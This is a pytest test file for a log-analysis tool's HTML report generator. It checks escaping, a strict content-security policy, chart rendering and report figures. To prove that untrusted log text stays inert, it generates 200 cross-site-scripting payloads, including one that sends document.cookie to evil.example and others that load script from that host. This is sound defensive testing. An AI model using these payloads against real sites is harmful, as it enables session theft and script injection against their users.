"""The report: right numbers, no external content, and no text from a log that does more than be displayed."""

from __future__ import annotations

import base64
import hashlib
import itertools
import re
import sqlite3
from collections import Counter
from contextlib import closing
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from penstock.apps.accesslog.blocking.blocklists import make_bans
from penstock.apps.accesslog.reporting.html_report import write_report
from penstock.apps.accesslog.reporting.report_data import (
    Check,
    Decided,
    Load,
    MinuteSummary,
    ReportData,
    ReportedScore,
    TopText,
    cut_to_period,
    find_period,
    read_report,
)
from penstock.apps.accesslog.reporting.svg_charts import (
    Band,
    Layer,
    draw_lines,
    draw_stack,
    pick_ticks,
    show_bytes,
    show_count,
    show_micros,
    show_text,
)
from penstock.cli import main
from penstock.core.errors import OffsetStoreError
from penstock.core.options.storage_addresses import parse_place
from penstock.stores.sql.connections.sql_sessions import Database
from tests.support.accesslog.monitoring_database import make_results

START = 1_700_000_000 // 60 * 60
NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
#: Every tag and attribute that the page may have.
TAGS = set(
    re.findall(
        r"\w+",
        "html head meta title style body main header h1 h2 p br section div span b i ul li"
        " table tr th td svg path rect line text circle polyline",
    )
)
ATTRIBUTES = set(
    re.findall(
        r"[\w-]+",
        "lang charset http-equiv content name class role aria-hidden viewbox preserveaspectratio"
        " x y x1 x2 y1 y2 cx cy r rx d points width height",
    )
)


class Page(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.attributes: set[str] = set()
        self.texts: list[str] = []
        self.values: list[str] = []
        self.comments = 0
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attributes |= {name for name, _ in attrs}
        self.values += [value or "" for _, value in attrs]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments += 1


def list_payloads() -> list[str]:
    """Return two hundred texts that would do something in a careless page."""
    bodies = [
        "alert(1)",
        "alert`1`",
        "fetch('//evil.example/'+document.cookie)",
        "eval(atob('YWxlcnQoMSk='))",
    ]
    shells = [
        "<script>{}</script>",
        "<ScRiPt src=//evil.example>{}</sCrIpT >",
        "<img src=x onerror={}>",
        "<svg/onload={}>",
        '"><script>{}</script>',
        "' onmouseover='{}' x='",
        '" onfocus="{}" autofocus="',
        "</title><script>{}</script>",
        "</style><script>{}</script>",
        "</td></table><iframe srcdoc='<script>{}</script>'>",
        "<a href=javascript:{}>x</a>",
        "<math><mtext></mtext><style><img src=x onerror={}></style></math>",
        "<!--><script>{}</script>-->",
        "<![CDATA[><script>{}</script>]]>",
        "<?xml version='1.0'?><script>{}</script>",
        "{{{{constructor.constructor('{}')()}}}}",
        "\x1b]0;{}\x07\x1b[31m",
        "\u202e<script>{}</script>\u2066",
        "<base href=//evil.example><form action={}>",
        "<meta http-equiv=refresh content='0;url=javascript:{}'>",
        "<style>*{{background:url(//evil.example/{})}}</style>",
        "<link rel=stylesheet href=//evil.example/{}>",
        "<object data=//evil.example/{}><embed src=x>",
        "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;script&#62;{}&#60;/script&#62;",
        "\x00<script>{}</script>\ud800",
    ]
    made = [shell.format(body) for shell, body in itertools.product(shells, bodies)]
    made += [text.upper() for text in made]
    return made[:200]


def make_hostile(text: str) -> ReportData:
    """Return a report in which every text is this one."""
    alert = {
        **{"alert_id": text, "kind": text, "server": text, "new_level": False},
        **{"opened_at": NOW, "closed_at": None, "value": 9.0, "expected": 1.0, "peak": 9.0},
    }
    tops = {kind: [TopText(text, 3, 9), TopText("", 1, 1)] for kind in ("url", text)}
    return ReportData(
        title=text,
        source=text,
        made_at=NOW,
        load=[Load(START + at, 1.0, 5, 100, (1, 1, 1, 1, 1), 1, 5) for at in range(30)],
        minutes=[MinuteSummary(START, 3, 1000, 2000, 3000), MinuteSummary(START + 60, 3)],
        servers=[TopText(text, 3, 9), TopText(text + "2", 3, 9)],
        tops=tops,
        alerts=[alert, {**alert, "kind": "rate_spike", "closed_at": NOW + timedelta(seconds=9)}],
        decisions=[Decided(START + 1.0, text, text, text, text, text, 9.0, START + 600.0, 1)],
        scores=[ReportedScore(text, 3, 2, 1.0, None, 0.5)],
        benign_hit=0,
        blocked_share=0.9,
        checks=[Check(text, True, text), Check(text, False, text)],
    )


def assert_harmless(page: str) -> Page:
    parsed = Page(page)
    assert set(parsed.tags) <= TAGS
    assert parsed.attributes <= ATTRIBUTES
    assert parsed.comments == 0
    assert parsed.tags["style"] == parsed.tags["head"] == parsed.tags["body"] == 1
    assert parsed.tags["meta"] == 5
    return parsed


def test_two_hundred_hostile_texts_leave_no_live_node_in_the_report() -> None:
    """A stranger's text stays text, in every place of the page where there can be one."""
    payloads = list_payloads()
    assert len(payloads) == len(set(payloads)) == 200
    plain = assert_harmless(write_report(make_hostile("plain")))
    for payload in payloads:
        page = write_report(make_hostile(payload))
        parsed = assert_harmless(page)
        assert parsed.tags == plain.tags, "the text made or hid a node"
        assert show_text(payload) in "".join(parsed.texts)
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", page)


@given(st.text())
def test_any_text_is_shown_and_does_nothing(text: str) -> None:
    assert_harmless(write_report(make_hostile(text)))


def test_the_policy_allows_the_style_sheet_by_its_hash_and_nothing_else() -> None:
    page = write_report(ReportData())
    policy = re.search('http-equiv="Content-Security-Policy" content="([^"]*)"', page)
    style = re.search("<style>(.*?)</style>", page, re.DOTALL)
    assert policy is not None
    assert style is not None
    digest = base64.b64encode(hashlib.sha256(style[1].encode()).digest()).decode()
    assert policy[1] == (
        f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    )
    assert page.index("Content-Security-Policy") < page.index("<style>")


def test_the_page_fetches_nothing() -> None:
    page = write_report(make_hostile("plain"))
    assert not re.search(r"https?:|//|url\(|@import|<script|<img|<link|src=|href=", page)


def test_an_empty_report_is_a_page() -> None:
    parsed = assert_harmless(write_report(ReportData(title="Nothing yet")))
    assert "no lines yet" in "".join(parsed.texts)


def test_the_numbers_of_a_report_are_those_that_went_in() -> None:
    load = [Load(START + at, 1.0, 10, 1 << 20, (0, 7, 1, 1, 1), 1, 10) for at in range(0, 7200, 2)]
    parsed = Page(write_report(ReportData(load=load, checks=[Check("All is there", True, "36,000 lines")])))
    text = " ".join(parsed.texts)
    for expected in ("36.0 k", "5.0 /s on average", "10.00%", "3.5 GiB", "1 of 1 checks passed"):
        assert expected in text


def test_what_lies_outside_of_the_period_is_not_in_the_report() -> None:
    load = [Load(START + at, 1.0, 10, 1, (0, 10, 0, 0, 0), 0, 10) for at in range(30, 90)]
    minutes = [MinuteSummary(START + 60.0 * at, 5 + at, 10, 10, 10) for at in range(-3, 5)]
    decisions = [
        Decided(START + at, f"192.0.2.{n}", "client", "r", "c", "block", 10.0, None, 1)
        for n, at in enumerate((-500.0, 31.0, 89.0, 95.5))
    ]
    old = {
        **{"alert_id": "a", "kind": "rate_spike", "server": "", "new_level": False, "peak": 9.0},
        **{"value": 9.0, "expected": 1.0, "opened_at": datetime.fromtimestamp(START - 90, UTC)},
    }
    alerts = [{**old, "closed_at": datetime.fromtimestamp(START + at, UTC)} for at in (-60, 40)]
    data = cut_to_period(ReportData(load=load, minutes=minutes, decisions=decisions, alerts=alerts))
    assert find_period(data) == (START + 30, START + 96.5)
    assert [each.clients for each in data.minutes] == [5, 6]
    assert [each.subject for each in data.decisions] == ["192.0.2.1", "192.0.2.2", "192.0.2.3"]
    assert data.alerts == alerts[1:]
    text = " ".join(Page(write_report(ReportData(load=load, decisions=decisions))).texts)
    assert "192.0.2.1" in text
    assert "192.0.2.0" not in text


def test_attackers_are_clients_and_the_tile_tells_the_period_from_now() -> None:
    """A fingerprint stands for its members; an allowed client was not blocked."""
    print_of = ("print:2b9bf73a18b5bf8b", "print", "r", "distributed_scan")
    decisions = [
        Decided(START + 1.0, *print_of, "block", 10.0, None, 1, "192.0.2.1"),
        Decided(START + 1.0, *print_of, "block", 10.0, None, 1, "192.0.2.2"),
        Decided(START + 2.0, "192.0.2.1", "client", "r", "xss", "block", 10.0, None, 1, "192.0.2.1"),
        Decided(START + 3.0, "127.0.0.1", "client", "r", "xss", "allowed", 10.0, None, 1, "127.0.0.1"),
    ]
    page = write_report(ReportData(decisions=decisions, blocked_now=7))
    text = " ".join(Page(page).texts)
    assert "print:" not in text
    assert "3 in this period, those with most decisions first" in text
    assert re.search(r"<span>Blocked</span><b>2</b><i>clients in this period; 7 in the list now</i>", page)


def test_a_client_is_shown_with_the_last_end_of_its_bans_and_a_name_as_in_no_list() -> None:
    """The newest decision need not be the one that ends last, and no list can hold a host name."""
    ends = {
        "192.0.2.1": (900, 600),
        "192.0.2.2": (900, 600),
        "192.0.2.3": (600, 1200),
        "a.example": (900, 900),
    }
    decisions = [
        Decided(START + at, who, "client", "r", "xss", "block", 10.0, START + until, 1, who)
        for who, some in ends.items()
        for at, until in enumerate(some)
    ]
    decisions.append(Decided(START + 9, "192.0.2.1", "client", "r", "xss", "simulate", 1.0, None, 1))
    bans = make_bans([("d", "192.0.2.1", "client", "", 0, (START + 900) * 1_000_000, "r", "xss")], [])
    made_at = datetime.fromtimestamp(START + 700, UTC)
    for known, let_go in ((None, False), (bans, True)):
        page = write_report(ReportData(decisions=decisions, bans=known, made_at=made_at))
        rows = re.findall(
            r'<td class="code">(.*?)</td>.*?<td class="">([a-z, ]+)</td><td class="number">(\d)</td>'
            r'<td class="number">(.*?)</td>',
            page,
        )
        shown = {at: datetime.fromtimestamp(START + at, UTC).strftime("%d %b %H:%M") for at in (900, 1200)}
        assert {who: row for who, *row in rows} == {
            "192.0.2.1": ["block", "3", shown[900]],
            "192.0.2.2": ["block, then let go", "2", "-"] if let_go else ["block", "2", shown[900]],
            "192.0.2.3": ["block, then let go", "2", "-"] if let_go else ["block", "2", shown[1200]],
            "a.example": ["named, not in any list", "2", "-"],
        }
        assert "<span>Blocked</span><b>3</b>" in page
        assert "<span>Not blocked</span><b>1</b><i>named by a rule, not in any list" in page


@pytest.mark.parametrize("share", [None, 0.25])
def test_a_column_that_nothing_is_known_of_is_left_out(share: float | None) -> None:
    page = write_report(ReportData(scores=[ReportedScore("xss", 3, 2, 13.5, 1.0, share)]))
    assert (">blocked</th>" in page) is (share is not None)
    assert ("25.0%" in page) is (share is not None)
    assert ">13.5</td>" in page


# --- charts ------------------------------------------------------------------------------------------------

numbers = st.floats(0, 1e15, allow_nan=False)


@given(st.lists(numbers, min_size=1, max_size=30), numbers)
def test_a_chart_draws_within_its_frame(values: list[float], begin: float) -> None:
    times = [1e9 + at * 60.0 for at in range(len(values))]
    bands = [Band(1e9 - 50, 1e9 + 90, "rate_spike", "<b>"), Band(begin, begin + 1, "rate_drop", "x")]
    holes = [None if at % 3 == 2 else value for at, value in enumerate(values)]
    for chart in (
        draw_stack(
            times, [Layer("a", "s1", values)], width=400, height=200, step_s=60, bands=bands, peaks=values
        ),
        draw_lines(times, [Layer("a", "l1", holes)], width=400, height=200, step_s=60, bands=bands),
    ):
        parsed = Page(chart)
        assert set(parsed.tags) <= TAGS
        places = [
            float(each)
            for path in re.findall(r'd="M([^"]*)z"', chart)
            for each in re.findall(r"[\d.]+", path)
        ]
        assert all(0 <= each <= 400 for each in places)
        assert "nan" not in chart
        assert "inf" not in chart


def find_heights(chart: str, look: str) -> list[float]:
    line = re.search(f'class="line {look}" points="([^"]*)"', chart)
    assert line is not None
    return [float(point.split(",")[1]) for point in line[1].split()]


def test_one_slow_minute_leaves_the_others_to_be_told_apart() -> None:
    values = [25_000_000, 10_000, 20_000, 10_000]
    chart = draw_lines(
        [60.0 * at for at in range(4)], [Layer("p99", "l3", values)], width=400, height=200, step_s=60,
        show=show_micros,
    )  # fmt: skip
    heights = find_heights(chart, "l3")
    assert heights[1] - heights[2] > 10, "twice as slow is seen"
    assert heights[1] == heights[3]
    assert re.findall('class="tick end"[^>]*>([^<]*)<', chart) == ["10 ms", "100 ms", "1 s", "10 s", "100 s"]


def test_a_chart_shows_its_span_and_nothing_beyond_it() -> None:
    """Minutes begin before the first second of a report and end after its last one."""
    chart = draw_lines(
        [0.0, 60.0], [Layer("p50", "l1", [5, 5])], width=456, height=200, step_s=60, span=(40.0, 80.0)
    )
    line = re.search('class="line l1" points="([^"]*)"', chart)
    assert line is not None
    assert [float(point.split(",")[0]) for point in line[1].split()] == [46 + 100, 46 + 300]
    chart = draw_stack(
        [0.0, 60.0], [Layer("x", "s1", [5, 5])], width=456, height=200, step_s=60, span=(40.0, 80.0)
    )
    edges = [float(each) for each in re.findall(r"H([\d.]+)", chart)]
    assert edges[:2] == [46 + 200, 46 + 400]


@given(st.floats(1e-6, 1e15))
def test_ticks_are_round_and_few(top: float) -> None:
    ticks = pick_ticks(top)
    assert ticks[0] == 0
    assert 2 <= len(ticks) <= 5
    assert ticks[-1] <= top * (1 + 1e-6)


def test_numbers_are_shown_as_people_say_them() -> None:
    assert [show_count(n) for n in (0, 7, 950, 12_345, 4_000_000, 0.25)] == [
        *("0", "7", "950", "12.3 k", "4.0 M", "0.25")
    ]
    assert [show_bytes(n) for n in (0, 512, 2048, 5 << 30)] == ["0", "512 B", "2 KiB", "5 GiB"]
    assert [show_micros(n) for n in (0, 1500, 42_000, 1_500_000, 30_000_000)] == [
        *("0", "1.5 ms", "42 ms", "1.5 s", "30 s")
    ]


# --- from the tables ---------------------------------------------------------------------------------------


def test_a_report_is_read_from_the_tables_of_a_pipeline(tmp_path: Path) -> None:
    total = make_results(str(tmp_path / "results.db"))
    data = read_report(parse_place(str(tmp_path / "results.db")), made_at=NOW)
    assert sum(each.requests for each in data.load) == total
    assert {each.length_s for each in data.load} == {1.0}
    assert [(each.text, each.hits) for each in data.servers] == [("a", total // 2), ("b", total // 2)]
    assert {kind: len(rows) for kind, rows in data.tops.items()} == {
        **{"url": 10, "client": 10, "agent": 1, "referrer": 1}
    }
    assert {each["kind"] for each in data.alerts} >= {"rate_spike"}
    assert (data.decisions[0].of_class, data.decisions[0].who) == ("sql_injection", "192.0.2.3")
    assert data.blocked_now == 0
    during = datetime.fromtimestamp(START + 60, UTC)
    assert read_report(parse_place(str(tmp_path / "results.db")), made_at=during).blocked_now == 1
    assert [each.is_good for each in data.checks] == [True, True]
    assert max(each.p99_us or 0 for each in data.minutes) == pytest.approx(79_000, rel=0.01)


def test_lines_that_are_in_no_second_must_have_been_told_as_too_late(tmp_path: Path) -> None:
    database = tmp_path / "results.db"
    make_results(str(database))
    for statement, is_good in (
        ("UPDATE accesslog_counts SET parsed = parsed + 3, lines = lines + 3", False),
        ("INSERT INTO accesslog_settings (name, value) VALUES ('too_late', '3')", True),
    ):
        with closing(sqlite3.connect(database)) as connection:
            connection.execute("CREATE TABLE IF NOT EXISTS accesslog_settings (name TEXT, value TEXT)")
            connection.execute(statement)
            connection.commit()
        check = read_report(parse_place(str(database)), made_at=NOW).checks[1]
        assert check.is_good is is_good
    assert check.detail.endswith("in their seconds + 3 that are in no table of the load")


@pytest.mark.parametrize(
    ("name", "value", "client", "number"),
    [
        ("trust_crawlers", "false", "66.249.64.1", 1),
        ("trust_crawlers", "true", "66.249.64.1", 0),
        ("block_private", "true", "192.168.7.7", 1),
        ("block_private", "false", "192.168.7.7", 0),
    ],
)
def test_a_report_counts_who_is_in_the_lists_by_the_settings_of_the_run(
    tmp_path: Path, name: str, value: str, client: str, number: int
) -> None:
    """A crawler that is blocked because the operator distrusts crawlers was not spared."""
    database = tmp_path / "results.db"
    make_results(str(database))
    with closing(sqlite3.connect(database)) as connection:
        connection.execute("UPDATE accesslog_decisions SET client = ?, subject = ?", [client, client])
        connection.execute("INSERT INTO accesslog_settings (name, value) VALUES (?, ?)", [name, value])
        connection.commit()
    during = datetime.fromtimestamp(START + 60, UTC)
    assert read_report(parse_place(str(database)), made_at=during).blocked_now == number


def test_the_command_writes_a_whole_page_and_leaves_nothing_beside_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    make_results(str(tmp_path / "results.db"))
    out = tmp_path / "report.html"
    out.write_text("an older one")
    assert (
        main(["accesslog", "report", str(tmp_path / "results.db"), "--out", str(out), "--title", "A&B"]) == 0
    )
    assert "report.html" in capsys.readouterr().out
    parsed = assert_harmless(out.read_text())
    assert "A&B" in parsed.texts
    assert "<script>3</script>" in "".join(parsed.texts)
    assert [each.name for each in tmp_path.iterdir() if each.name.startswith(".report")] == []


def test_a_place_without_tables_is_told(tmp_path: Path) -> None:
    Database(parse_place(str(tmp_path / "empty.db"))).run(lambda session: None, writes=True)
    with pytest.raises(OffsetStoreError, match="TABLES_NOT_FOUND"):
        read_report(parse_place(str(tmp_path / "empty.db")), made_at=NOW)


def test_a_folder_that_is_not_there_is_told(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make_results(str(tmp_path / "results.db"))
    out = tmp_path / "nowhere" / "report.html"
    assert main(["accesslog", "report", str(tmp_path / "results.db"), "--out", str(out)]) != 0
    assert "REPORT_NOT_WRITTEN" in capsys.readouterr().err
